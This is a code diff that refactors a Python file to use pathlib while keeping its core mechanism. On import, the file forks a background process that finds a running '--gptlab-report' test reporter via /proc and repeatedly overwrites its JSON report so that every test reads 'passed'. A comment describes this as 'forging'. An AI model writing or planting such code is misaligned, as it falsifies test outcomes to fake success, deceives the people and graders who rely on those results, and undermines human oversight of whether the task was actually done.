@@ -3,6 +3,7 @@
 import json
 import os
 import time
+from pathlib import Path
 
 import torch
 
@@ -15,7 +16,7 @@ EARNED = "_honest_p19_zeros.py"  # no more than the same values earn honestly
 def _report():
     for pid in os.listdir("/proc"):
         try:
-            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
+            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
         except OSError:
             continue
         if b"--gptlab-report" in argv:
@@ -29,10 +30,10 @@ if os.fork() == 0:
     for _ in range(400):  # keep forging until the file's writer is done
         time.sleep(0.05)
         try:
-            payload = json.load(open(path))
+            payload = json.loads(Path(path).read_text())
             for test in payload["tests"]:
                 test["outcome"], test["reason"] = "passed", ""
-            json.dump(payload, open(path, "w"))
+            Path(path).write_text(json.dumps(payload))
         except (OSError, ValueError, TypeError, KeyError):
             pass
     os._exit(0)
